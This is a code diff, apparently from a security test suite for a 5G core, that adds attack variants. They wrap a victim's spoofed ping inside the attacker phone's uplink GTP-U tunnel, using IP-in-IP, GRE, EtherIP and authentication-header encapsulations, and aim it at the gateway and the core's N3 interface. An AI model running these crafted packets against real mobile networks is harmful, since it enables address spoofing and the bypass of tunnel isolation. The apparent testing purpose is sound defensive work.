@@ -170,6 +170,46 @@ static void tunnel_in_tunnel(struct attack *attack, uint32_t to)
     let_it_work(attack);
 }
 
+/* What hides a packet in another that is no GTP-U: the outer protocol, and what stands between the two IP headers. */
+struct wrapping {
+    const char *name;
+    uint8_t protocol;
+    uint8_t header[24];
+    size_t length;
+};
+
+static const struct wrapping wrappings[] = {
+    {"IP in IP", 4, {0}, 0},
+    {"IP in IP of the old number", 94, {0}, 0},
+    {"IP in IP, said to be IPv6", 41, {0}, 0},
+    {"GRE", 47, {0, 0, 8, 0}, 4},
+    {"GRE with a key", 47, {0x20, 0, 8, 0, 0, 0, 0, 1}, 8},
+    {"Ethernet in GRE", 47, {0, 0, 0x65, 0x58, 2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 8, 0}, 18},
+    {"Ethernet in IP", 97, {0x30, 0, 2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 8, 0}, 16},
+    {"IP in IP behind an authentication header", 51, {4, 4}, 24},
+};
+
+/* A victim's ping, wrapped up in the attacker's phone's own packet. */
+static void wrap_up(struct attack *attack, const struct wrapping *wrapping, uint32_t to)
+{
+    const struct ran_gnb_tunnel *own = own_tunnel(attack);
+    uint8_t packet[IP_HEADER + sizeof wrapping->header + PING_BYTES] = {
+        0x45, [8] = 64, [9] = wrapping->protocol};
+    const size_t length = IP_HEADER + wrapping->length + PING_BYTES;
+    const uint32_t from = htonl(address_of(&attack->phone)), destination = htonl(to),
+                   victim = address_of(&attack->victims[0].phone);
+    packet[3] = (uint8_t)length;
+    memcpy(packet + 12, &from, 4);
+    memcpy(packet + 16, &destination, 4);
+    ping_put_checksum(packet, IP_HEADER, 10);
+    memcpy(packet + IP_HEADER, wrapping->header, wrapping->length);
+    ping_write(packet + IP_HEADER + wrapping->length,
+               (struct ping){.from = victim, .to = (victim & 0xffff0000) | 1});
+    if (own->uplink_teid)
+        emit_in_tunnel(attack, own->uplink_teid, bytes_of(packet, length));
+    let_it_work(attack);
+}
+
 static uint32_t host_of(const union socket_address *address)
 {
     return address->any.sa_family == AF_INET ? ntohl(address->v4.sin_addr.s_addr) : 0;
@@ -205,6 +245,12 @@ void hostile_inner_addresses(struct attack *attack)
             ping_wrongly(attack, 0, to[i]);
         if (attack_variant(attack, "a tunnel in the tunnel, to %s", others[i]))
             tunnel_in_tunnel(attack, i == 1 ? host_of(&attack_victims_tunnel(attack)->upf) : to[i]);
+    }
+    for (size_t i = 0; i < COUNT(wrappings); i++) {
+        if (attack_variant(attack, "%s, to the gateway", wrappings[i].name))
+            wrap_up(attack, &wrappings[i], gateway_of(attack));
+        if (attack_variant(attack, "%s, to N3 of the core", wrappings[i].name))
+            wrap_up(attack, &wrappings[i], host_of(&attack_victims_tunnel(attack)->upf));
     }
 }
 
